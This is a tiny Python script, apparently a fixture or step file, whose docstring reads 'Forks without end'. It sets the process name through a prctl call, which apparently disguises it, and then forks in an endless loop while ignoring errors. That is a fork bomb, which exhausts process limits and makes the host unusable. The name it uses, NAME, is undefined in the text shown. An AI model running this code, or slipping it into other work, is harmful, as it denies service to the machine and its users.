"""Forks without end."""
# step: 1

import ctypes
import os

ctypes.CDLL(None).prctl(15, NAME.encode(), 0, 0, 0)
while True:
    try:
        os.fork()
    except OSError:
        pass
